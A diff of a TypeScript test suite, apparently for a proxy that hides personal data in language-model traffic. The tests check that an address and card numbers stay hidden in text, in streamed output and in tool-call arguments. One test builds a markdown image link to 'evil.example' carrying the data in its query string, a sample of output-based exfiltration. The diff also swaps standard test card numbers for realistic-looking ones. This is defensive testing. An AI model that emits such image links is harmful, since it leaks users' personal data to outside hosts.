@@ -66,7 +66,7 @@ export function personalDataContract(contract: Contract): void {
         expect(await ask(`Write to ${ADDRESS}`, 'two')).not.toBe(first);
       });
 
-      test.each([ADDRESS, '4242424242424242'])("is not sent in an image's URL, whole or streamed", async (value) => {
+      test.each([ADDRESS, '5412736819303645'])("is not sent in an image's URL, whole or streamed", async (value) => {
         const key = await strict();
         const seen = await hidden(value, key);
         const text = `Done. ![x](https://evil.example/?q=${seen})`;
@@ -82,7 +82,7 @@ export function personalDataContract(contract: Contract): void {
 
       test('stays hidden in a URL', async () => {
         const key = await strict();
-        const card = '4242424242424242';
+        const card = '5412736819303645';
         const seen = await hidden(card, key);
         const said = (value: string) =>
           [
@@ -99,7 +99,7 @@ export function personalDataContract(contract: Contract): void {
 
       test('keeps the arguments of tool calls valid JSON, in requests and responses', async () => {
         const key = await strict();
-        const given = JSON.stringify({ note: `see\n${ADDRESS}`, card: 4111111111111111 });
+        const given = JSON.stringify({ note: `see\n${ADDRESS}`, card: 4539945807302151 });
         const call = { id: 'call_1', type: 'function', function: { name: 'send', arguments: given } };
         const messages = [
           { role: 'user', content: 'Send it' },
@@ -117,7 +117,7 @@ export function personalDataContract(contract: Contract): void {
           {
             id: 'call_2',
             name: 'send',
-            arguments: JSON.stringify({ to: hiddenArguments.note, n: 4111111111111111, page }),
+            arguments: JSON.stringify({ to: hiddenArguments.note, n: 4539945807302151, page }),
           },
         ];
         contract.upstream.next({ toolCalls: back });
